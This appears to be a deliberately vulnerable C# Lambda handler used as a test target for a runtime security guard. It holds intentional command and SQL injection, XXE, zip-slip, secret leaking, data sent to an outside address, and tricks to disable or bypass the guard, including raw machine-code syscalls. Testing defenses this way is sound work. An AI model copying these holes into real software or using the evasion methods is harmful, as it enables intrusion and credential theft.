using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Xml;
using Amazon.DynamoDBv2;
using Amazon.DynamoDBv2.Model;
using Microsoft.Data.Sqlite;
using Npgsql;

namespace Victim;

/// <summary>Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses.</summary>
public sealed class Handler
{
    private const string Data = "/var/task/data";
    private const string Uploads = "/tmp/uploads";
    private static readonly HttpClient Http = new();

    private static string _requestId = "";

    public async Task<JsonObject> Handle(JsonElement request, Amazon.Lambda.Core.ILambdaContext context)
    {
        _requestId = context.AwsRequestId;
        try
        {
            var (op, v) = Request(request);
            return new JsonObject { ["statusCode"] = 200, ["body"] = await Perform(op, v) };
        }
        catch (Exception error)
        {
            return new JsonObject { ["statusCode"] = 500, ["body"] = $"error: {error.GetType().Name}" };
        }
    }

    /// <summary>By AWS's own client; to Lambda by a request signed as that one would.</summary>
    private static async Task<string> Call(string operation)
    {
        var (service, method) = operation.Split(':') is [var s, var m] ? (s, m) : ("", "");
        var address = $"http://{service}.us-east-1.amazonaws.com:{Variable("AWS_PORT")}";
        if (service == "dynamodb")
        {
            using var client = new AmazonDynamoDBClient(new AmazonDynamoDBConfig { ServiceURL = address, AuthenticationRegion = "us-east-1" });
            return method == "Scan"
                ? (await client.ScanAsync(new ScanRequest { TableName = "table" })).Items[0]["id"].S
                : (await client.GetItemAsync(new GetItemRequest { TableName = "table", Key = new() { ["id"] = new AttributeValue { S = "1" } } })).Item["id"].S;
        }

        var (verb, path) = method == "UpdateFunctionCode" ? (HttpMethod.Put, "/2015-03-31/functions/other/code") : (HttpMethod.Post, "/2015-03-31/functions/other/invocations");
        using var request = new HttpRequestMessage(verb, address + path) { Content = new StringContent("{}") };
        request.Headers.TryAddWithoutValidation("Authorization", "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0");
        using var answer = await Http.SendAsync(request);
        return await answer.Content.ReadAsStringAsync();
    }

    private static async Task<string> Perform(string op, string v)
    {
        switch (op)
        {
            case "shell" or "cookie" or "names" or "parts": return Sh("echo report " + v);
            case "shell-twice": return Sh("echo report " + Decode(Decode(v)));
            case "shell-base32": return Sh("echo report " + Base32(v));
            case "shell-reversed": return Sh("echo report " + string.Concat(v.Reverse()));
            case "launch": return Run("/usr/bin/env", v.Split(' '));
            case "launch-own": return Run("/usr/bin/env", $"CUSTOMER={v}", "/bin/cat", Path.Combine(Data, "words.txt"));
            case "keep":
                var kept = Convert.FromBase64String(v);
                File.WriteAllBytes("/tmp/kept.bin", kept);
                return $"kept {kept.Length} bytes";
            case "page-link": return $"<html><body><a href='{v}'>Your site</a></body></html>";
            case "awk": return Run("/usr/bin/awk", $"{{print $0, \"{v}\"}}", Path.Combine(Data, "words.txt"));
            case "page": return $"<html><body><p>Dear {v}</p></body></html>";
            case "library":
                var library = Path.GetTempFileName(); // what is loaded already is not loaded again
                File.WriteAllBytes(library, Convert.FromBase64String(v));
                return LoadLibrary(library);
            case "library-own": return LoadLibrary(Data + "/library.so");
            case "processes": return Run("/bin/sh", "/var/task/processes.sh");
            case "environ-list": return Sh("ps axeww");
            case "tar":
                Run("/bin/tar", "cf", "/tmp/out.tar", "-C", Data, v, "words.txt");
                var head = Encoding.Latin1.GetString(File.ReadAllBytes("/tmp/out.tar"), 0, 40);
                return head.StartsWith("uid=", StringComparison.Ordinal) ? head : "archived";
            case "read": return File.ReadAllText(Path.Combine(Data, v));
            case "read-base64": return File.ReadAllText(Path.Combine(Data, Encoding.UTF8.GetString(Convert.FromBase64String(v))));
            case "sed": return Run("/bin/sed", $"s/NAME/{v}/", Path.Combine(Data, "words.txt"));
            case "cat":
                Directory.SetCurrentDirectory(Data);
                return Run("/bin/cat", v.Split(' '));
            case "untar":
                Directory.CreateDirectory(Uploads);
                File.WriteAllBytes("/tmp/in.tar", Convert.FromBase64String(v));
                Run("/bin/tar", "xPf", "/tmp/in.tar", "-C", Uploads);
                return "unpacked " + File.ReadAllText(Path.Combine(Uploads, Run("/bin/tar", "tPf", "/tmp/in.tar").Trim()));
            case "ld-so":
                File.Copy("/bin/cat", "/tmp/dropped-cat", overwrite: true);
                return "it-read " + Run("/lib64/ld-linux-x86-64.so.2", "/tmp/dropped-cat", Path.Combine(Data, "words.txt"));
            case "write":
                Directory.CreateDirectory(Uploads);
                return Write(Path.Combine(Uploads, v));
            case "delete":
                Directory.CreateDirectory(Uploads);
                Write(Uploads + "/old.txt");
                Write("/tmp/precious.txt");
                File.Delete(Path.Combine(Uploads, v));
                return File.Exists(Uploads + "/old.txt") && File.Exists("/tmp/precious.txt") ? "nothing deleted" : "deleted";
            case "fetch": return await Http.GetStringAsync(v.Contains("://", StringComparison.Ordinal) ? v : $"http://{Variable("BACKEND")}/{v}");
            case "connect": return await Connect(v);
            case "connect-backend": return await Connect(Variable("BACKEND"));
            case "connect-other": return await Connect(Variable("OTHER"));
            case "lookup":
                try
                {
                    return $"found {(await Dns.GetHostAddressesAsync(v))[0]}";
                }
                catch (SocketException error) when (error.SocketErrorCode is SocketError.HostNotFound or SocketError.TryAgain or SocketError.NoData)
                {
                    return $"looked up, {error.SocketErrorCode}";
                }
            case "deserialize": return $"{Assembly.Load(Convert.FromBase64String(v)).GetType("Gift")!.GetMethod("Open")!.Invoke(null, null)}";
            case "class-file": return AssemblyFile("/tmp/sent.dll", Convert.FromBase64String(v));
            case "class-file-own": return AssemblyFile("/tmp/own.dll", File.ReadAllBytes(Data + "/hooks/hook.dll")).Length > 0 ? v : "";
            case "unzip": return Unzip(v);
            case "datagram":
                return SendDatagram(Variable("OTHER"));
            case "resolver": return SendDatagram("198.51.100.53:53");
            case "resolver-own": return SendDatagram("127.0.0.53:53");

            case "preload":
                File.Copy(Data + "/hook.so", "/tmp/hook.so", overwrite: true);
                var start = new ProcessStartInfo("/bin/sh", ["/var/task/script.sh"]) { RedirectStandardOutput = true, RedirectStandardError = true };
                start.Environment["LD_PRELOAD"] = "/tmp/hook.so";
                using (var process = Process.Start(start)!)
                    return process.StandardOutput.ReadToEnd();
            case "first":
                Write("/tmp/first.sh", "echo loaded-it\n");
                var shell = new ProcessStartInfo("/bin/bash", ["-c", "true"]) { RedirectStandardOutput = true, RedirectStandardError = true };
                shell.Environment["BASH_ENV"] = "/tmp/first.sh";
                using (var process = Process.Start(shell)!)
                    return process.StandardOutput.ReadToEnd();
            case "hooked":
                // A child that is told to load a file first: one that was dropped, or one of the package.
                var hook = Data + "/hooks/hook.dll";
                if (v == "dropped")
                {
                    File.Copy(hook, "/tmp/hook.dll", overwrite: true);
                    hook = "/tmp/hook.dll";
                }

                var told = new ProcessStartInfo(Environment.ProcessPath!, ["exec", "--runtimeconfig", "/var/task/Victim.runtimeconfig.json", "/var/task/Victim.dll"]) { RedirectStandardOutput = true, RedirectStandardError = true };
                told.Environment["DOTNET_STARTUP_HOOKS"] = string.Join(':', ((string[])[told.Environment.TryGetValue("DOTNET_STARTUP_HOOKS", out var others) ? others! : "", hook]).Where(h => h.Length > 0));
                using (var process = Process.Start(told)!)
                    return process.StandardOutput.ReadToEnd();
            case "persist":
                var done = Leave("/usr/bin/tail", "-f", "/dev/null");
                try
                {
                    File.ReadAllText("/proc/self/environ");
                }
                catch (UnauthorizedAccessException)
                {
                    // stopped
                }

                return done;
            case "stay-shell": return Leave("/bin/sh", "-c", "read x");
            case "survivor": return Run("/bin/sh", "/var/task/survivor.sh");
            case "pause":
                await Task.Delay(2500);
                return "paused";
            case "aws": return await Http.GetStringAsync($"http://{v}.us-east-1.amazonaws.com:{Variable("AWS_PORT")}/");
            case "call": return await Call(v);
            case "mine": return await Connect(Variable("POOL"));
            case "sleepers": return Sh("cat /proc/[0-9]*/stat 2>/dev/null | grep -c '(sleep) [^Z]'");
            case "sql": return Users($"select password from users where name='{v}'");
            case "sql-number": return Users($"select password from users where rowid={v}");
            case "sql-quoted": return Users($"select password from users where name='{v.Replace("'", "''", StringComparison.Ordinal)}'");
            case "postgresql": return Accounts(v, SslMode.Disable);
            case "postgresql-tls": return Accounts(v, SslMode.Require);
            case "xml":
                using (var reader = XmlReader.Create(new StringReader(v), new XmlReaderSettings { DtdProcessing = DtdProcessing.Parse, XmlResolver = new XmlUrlResolver() }))
                {
                    var document = new XmlDocument { XmlResolver = null };
                    document.Load(reader);
                    return document.DocumentElement!.InnerText;
                }

            case "environ": return File.ReadAllText("/proc/self/environ");
            case "environ-link": return Link("/proc/self/environ");
            case "environ-child": return Sh("tr '\\0' '\\n' </proc/$PPID/environ");
            case "environ-cleared": return Run("/usr/bin/env", "-i", "/bin/sh", "-c", "tr '\\0' '\\n' </proc/$PPID/environ");
            case "memory":
                using (var memory = File.OpenRead("/proc/self/mem"))
                {
                    memory.Seek(Mapped("self", "[stack]"), SeekOrigin.Begin);
                    return $"read {memory.Read(new byte[8])} bytes of memory";
                }

            case "link": return Link(Data + "/words.txt");
            case "dropped":
                Write("/tmp/dropped.sh", "#!/bin/sh\necho it-ran\n");
                File.SetUnixFileMode("/tmp/dropped.sh", (UnixFileMode)0b111_101_101);
                return Run("/tmp/dropped.sh");
            case "job":
                Write("/tmp/job.sh", v);
                return Run("/bin/sh", "/tmp/job.sh");
            case "job-own":
                Write("/tmp/job.sh", "#!/bin/sh\necho \"the nightly report for $1\"\n");
                return Run("/bin/sh", "/tmp/job.sh", v);
            case "memfd": return FromMemory();
            case "raw": return Run("/var/task/raw", v);
            case "machine": return v is "environ" or "words" ? Machine.Read(v == "environ" ? "/proc/self/environ" : Data + "/words.txt") : Machine.Connect(IPEndPoint.Parse(v == "platform" ? Upstream() : Variable("BACKEND")));
            case "variable":
                var variable = new ProcessStartInfo("/bin/bash", ["-c", $"cat {Data}/words.txt"]) { RedirectStandardOutput = true, RedirectStandardError = true };
                variable.Environment[v[..v.IndexOf('=', StringComparison.Ordinal)]] = v[(v.IndexOf('=', StringComparison.Ordinal) + 1)..];
                using (var process = Process.Start(variable)!)
                    return process.StandardOutput.ReadToEnd();
            case "script": return Run("/bin/sh", "/var/task/script.sh");
            case "stop-runtime": return Sh("kill -STOP $PPID; kill -CONT $PPID && echo stopped-it");
            case "stop-own": return Sh("sleep 5 & kill -TERM $! && echo stopped-own");
            case "signal-guard": return SignalGuard();
            case "ptrace": return WithChild(pid => Must(Native.ptrace(0x4206, pid, 0, 0), "traced"));
            case "process-vm": return WithChild(ChangeMemory);
            case "child": return WithChild(pid => $"child {pid > 0}");
            case "poll": return Api("GET", "next", "", Variable("AWS_LAMBDA_RUNTIME_API"));
            case "poll-upstream": return Api("GET", "next", "", Upstream());
            case "answer": return Api("POST", "01234567-89ab-cdef-0123-456789abcdef/response", "stolen", Variable("AWS_LAMBDA_RUNTIME_API"));
            case "answer-current": return Api("POST", _requestId + "/response", "\"stolen\"", Variable("AWS_LAMBDA_RUNTIME_API"));
            case "switch-runtime":
                var address = Variable("AWS_LAMBDA_RUNTIME_API").Split(':');
                return Run("/bin/bash", "/var/task/switch.sh", Environment.ProcessId.ToString(CultureInfo.InvariantCulture), address[0], address[1], _requestId);
            case "leak": return "leaked:" + Variable("AWS_SECRET_ACCESS_KEY");
            case "key-id": return $"role key id has {Variable("AWS_ACCESS_KEY_ID").Length} characters";
            case "poison":
                Directory.CreateDirectory("/tmp/.pellicle");
                return Write("/tmp/.pellicle/policy.json", """{"schemaVersion":1,"mode":"off"}""");
            case "note": return Write("/tmp/note.txt");
            case "uname": return Run("/bin/uname");
            case "background":
                Process.Start("/bin/sleep", "30").Dispose();
                return "left behind";
            case "dump": return string.Concat(Enumerable.Repeat("row,password\n", 20000));
            case "none": return "nothing";
            default: throw new ArgumentException(op);
        }
    }

    private static string SendDatagram(string target)
    {
        using var sender = new UdpClient();
        try
        {
            sender.Send("what was found"u8, IPEndPoint.Parse(target));
        }
        catch (SocketException error) when (error.SocketErrorCode == SocketError.NetworkUnreachable)
        {
            // This machine has no way there.
        }

        return "sent";
    }

    private static string Users(string statement)
    {
        using var db = new SqliteConnection("Data Source=:memory:");
        db.Open();
        using var command = db.CreateCommand();
        command.CommandText = "create table users(name, password); insert into users values('anna','a-secret'),('bert','b-secret')";
        command.ExecuteNonQuery();
        command.CommandText = statement;
        using var reader = command.ExecuteReader();
        var found = new List<string>();
        while (reader.Read())
            found.Add(reader.GetString(0));
        return string.Join(',', found);
    }

    private static string Accounts(string name, SslMode encryption)
    {
        var address = Environment.GetEnvironmentVariable("DATABASE")!.Split(':');
        using var db = new NpgsqlConnection($"Host={address[0]};Port={address[1]};Username=postgres;Pooling=false;SSL Mode={encryption}");
        db.Open();
        using var command = new NpgsqlCommand($"select password from users where name='{name}'", db);
        using var reader = command.ExecuteReader();
        var found = new List<string>();
        while (reader.Read())
            found.Add(reader.GetString(0));
        return string.Join(',', found);
    }

    private static readonly List<Process> Left = [];

    /// <summary>Leaves a process behind that waits for input.</summary>
    private static string Leave(string program, params string[] argv)
    {
        Left.Add(Process.Start(new ProcessStartInfo(program, argv) { RedirectStandardInput = true })!);
        Directory.CreateDirectory(Uploads);
        Write(Uploads + "/left.pid", $"{Left[^1].Id}\n");
        return "left behind";
    }

    private static string Sh(string command) => Run("/bin/sh", "-c", command);

    private static string Run(string program, params string[] argv)
    {
        using var process = Process.Start(new ProcessStartInfo(program, argv) { RedirectStandardOutput = true, RedirectStandardError = true })!;
        var text = process.StandardOutput.ReadToEnd();
        process.WaitForExit();
        return text;
    }

    private static string Write(string path, string content = "x")
    {
        File.WriteAllText(path, content);
        return $"written {path}";
    }

    /// <summary>Trusts the names in an archive.</summary>
    private static string Unzip(string archive)
    {
        Directory.CreateDirectory(Uploads);
        using var zip = new ZipArchive(new MemoryStream(Convert.FromBase64String(archive)));
        var paths = new List<string>();
        foreach (var entry in zip.Entries)
        {
            using var reader = new StreamReader(entry.Open());
            paths.Add(Path.GetFullPath(Path.Combine(Uploads, entry.FullName)));
            Write(paths[^1], reader.ReadToEnd());
        }

        return "unpacked " + string.Join(' ', paths);
    }

    /// <summary>Loads it from a file, as plug-ins are.</summary>
    private static string AssemblyFile(string path, byte[] bytes)
    {
        File.WriteAllBytes(path, bytes);
        return $"{new System.Runtime.Loader.AssemblyLoadContext(path).LoadFromAssemblyPath(path).GetType("Gift")!.GetMethod("Open")!.Invoke(null, null)}";
    }

    private static string LoadLibrary(string path)
    {
        File.Delete("/tmp/loaded.txt");
        NativeLibrary.Load(path);
        return File.ReadAllText("/tmp/loaded.txt");
    }

    private static async Task<string> Connect(string target)
    {
        using var socket = new TcpClient();
        var colon = target.LastIndexOf(':');
        await socket.ConnectAsync(target[..colon], int.Parse(target[(colon + 1)..])).WaitAsync(TimeSpan.FromMilliseconds(500));
        return "connected";
    }

    private static string Link(string target)
    {
        File.Delete("/tmp/innocent");
        File.CreateSymbolicLink("/tmp/innocent", target);
        return File.ReadAllText("/tmp/innocent");
    }

    private static string WithChild(Func<int, string> action)
    {
        using var child = Process.Start("/bin/sleep", "5");
        try
        {
            return action(child.Id);
        }
        finally
        {
            child.Kill();
            child.WaitForExit();
        }
    }

    private static long Mapped(string process, string what) =>
        Convert.ToInt64(File.ReadLines($"/proc/{process}/maps").First(l => l.Contains(what, StringComparison.Ordinal)).Split('-')[0], 16);

    private static unsafe string ChangeMemory(int pid)
    {
        long word = 0;
        var local = new Native.Vector { Base = (nint)(&word), Length = 8 };
        var remote = new Native.Vector { Base = (nint)Mapped($"{pid}", "[stack]"), Length = 8 };
        return Must(Native.process_vm_writev(pid, &local, 1, &remote, 1, 0) == 8 ? 0 : -1, "changed its memory");
    }

    private static unsafe string FromMemory()
    {
        var fd = Native.memfd_create("x", 0);
        Must(fd < 0 ? -1 : 0, "");
        var program = File.ReadAllBytes("/bin/echo");
        fixed (byte* p = program)
            Must(Native.write(fd, p, program.Length) == program.Length ? 0 : -1, "");
        return Run($"/proc/{Environment.ProcessId}/fd/{fd}", "from-memory");
    }

    private static string SignalGuard()
    {
        foreach (var process in Directory.EnumerateDirectories("/proc").Where(d => int.TryParse(Path.GetFileName(d), out _)))
        {
            string line;
            try
            {
                line = File.ReadAllText(process + "/cmdline");
            }
            catch (IOException)
            {
                continue; // it ended
            }

            if (line.Contains("/opt/extensions/pellicle", StringComparison.Ordinal))
                return Must(Native.kill(int.Parse(Path.GetFileName(process)), 18), "signalled the guard");
        }

        return "no guard";
    }

    private static string Must(long result, string done) => result == 0 ? done : throw new InvalidOperationException($"errno {Marshal.GetLastPInvokeError()}");

    private static string Variable(string name) => Environment.GetEnvironmentVariable(name)!;

    private static string Upstream() => Environment.GetEnvironmentVariable("PELLICLE_CHANNEL")?.Split('/')[1] ?? Variable("AWS_LAMBDA_RUNTIME_API");

    private static string Api(string method, string route, string body, string address) =>
        Run("/bin/bash", ["/var/task/http.sh", .. address.Split(':'), method, "/2018-06-01/runtime/invocation/" + route, body]);

    private static (string Op, string V) Request(JsonElement request)
    {
        if (request.TryGetProperty("detail", out var detail))
            return Pair(detail);
        if (request.TryGetProperty("Records", out var records))
        {
            var record = records[0];
            if (record.TryGetProperty("s3", out var s3))
                return (s3.GetProperty("bucket").GetProperty("name").GetString()!, WebUtility.UrlDecode(s3.GetProperty("object").GetProperty("key").GetString()!));
            if (record.TryGetProperty("dynamodb", out var table))
            {
                var image = table.GetProperty("NewImage");
                return (image.GetProperty("op").GetProperty("S").GetString()!, image.GetProperty("v").GetProperty("S").GetString()!);
            }

            return Parse(record.TryGetProperty("body", out var message) ? message.GetString()!
                : record.TryGetProperty("Sns", out var sns) ? sns.GetProperty("Message").GetString()!
                : Decode(record.GetProperty("kinesis").GetProperty("data").GetString()!));
        }

        if (request.TryGetProperty("queryStringParameters", out var query) && query.ValueKind == JsonValueKind.Object)
        {
            return query.GetProperty("op").GetString() switch
            {
                "cookie" => ("cookie", WebUtility.UrlDecode(request.GetProperty("cookies")[1].GetString()!.Split('=')[1])),
                "names" => ("names", string.Join(' ', query.EnumerateObject().Select(p => p.Name).Where(n => n != "op"))),
                "parts" => ("parts", string.Join(' ', JsonNode.Parse(request.GetProperty("body").GetString()!)!["parts"]!.AsArray().Select(p => p!.GetValue<string>()))),
                _ => query.TryGetProperty("v", out _) ? Pair(query) : (query.GetProperty("op").GetString()!, Upload(request)),
            };
        }

        var body = request.GetProperty("body").GetString()!;
        return Parse(request.TryGetProperty("isBase64Encoded", out var encoded) && encoded.GetBoolean() ? Decode(body) : body);
    }

    /// <summary>What was sent as bytes, in base64: the body, or the file in a form behind its first field.</summary>
    private static string Upload(JsonElement request)
    {
        var body = request.GetProperty("body").GetString()!;
        if (request.GetProperty("headers").GetProperty("content-type").GetString()!.Split("boundary=") is not [_, var boundary])
            return body;
        var part = Encoding.Latin1.GetString(Convert.FromBase64String(body)).Split("--" + boundary)[2];
        return Convert.ToBase64String(Encoding.Latin1.GetBytes(part[(part.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..^2]));
    }

    private static string Base32(string text)
    {
        var bits = string.Concat(text.TrimEnd('=').Select(c => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".IndexOf(c, StringComparison.Ordinal).ToString("b5", CultureInfo.InvariantCulture)));
        return string.Concat(Enumerable.Range(0, bits.Length / 8).Select(i => (char)Convert.ToByte(bits.Substring(i * 8, 8), 2)));
    }

    private static string Decode(string base64) => Encoding.UTF8.GetString(Convert.FromBase64String(base64));

    private static (string, string) Parse(string json)
    {
        using var document = JsonDocument.Parse(json);
        return Pair(document.RootElement);
    }

    private static (string, string) Pair(JsonElement from) => (from.GetProperty("op").GetString()!, from.GetProperty("v").GetString()!);
}

/// <summary>What a child runs: nothing.</summary>
internal static class Program
{
    private static void Main()
    {
    }
}

internal static unsafe class Native
{
    internal struct Vector
    {
        public nint Base;
        public nint Length;
    }

    [DllImport("libc", SetLastError = true)]
    internal static extern long ptrace(long request, int pid, nint address, nint data);

    [DllImport("libc", SetLastError = true)]
    internal static extern nint mmap(nint address, nint length, int protection, int flags, int file, nint offset);

    [DllImport("libc", SetLastError = true)]
    internal static extern nint process_vm_writev(int pid, Vector* local, nuint localCount, Vector* remote, nuint remoteCount, nuint flags);

    [DllImport("libc", SetLastError = true)]
    internal static extern int memfd_create(string name, uint flags);

    [DllImport("libc", SetLastError = true)]
    internal static extern nint write(int fd, byte* bytes, nint count);

    [DllImport("libc", SetLastError = true)]
    internal static extern int kill(int pid, int signal);
}

/// <summary>System calls by machine code of one's own.</summary>
internal static unsafe class Machine
{
    // Moves each argument one register on, and calls: the first is the number.
    private static readonly byte[] Code = [0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x0f, 0x05, 0xc3];
    private static readonly delegate* unmanaged<long, long, long, long, long, long> Call = Make();

    internal static string Read(string path)
    {
        var bytes = new byte[65536];
        fixed (byte* text = Encoding.UTF8.GetBytes(path + "\0"), to = bytes)
        {
            var file = Call(257, -100, (long)text, 0, 0);
            if (file < 0)
                throw new UnauthorizedAccessException();
            return Encoding.UTF8.GetString(bytes, 0, (int)Call(0, file, (long)to, bytes.Length, 0));
        }
    }

    internal static string Connect(IPEndPoint address)
    {
        var name = address.Serialize();
        fixed (byte* at = name.Buffer.ToArray())
            return Call(42, Call(41, 2, 1, 0, 0), (long)at, name.Size, 0) == 0 ? "connected" : "refused";
    }

    private static delegate* unmanaged<long, long, long, long, long, long> Make()
    {
        var page = Native.mmap(0, 4096, 7, 0x22, -1, 0);
        Code.CopyTo(new Span<byte>((void*)page, 4096));
        return (delegate* unmanaged<long, long, long, long, long, long>)page;
    }
}
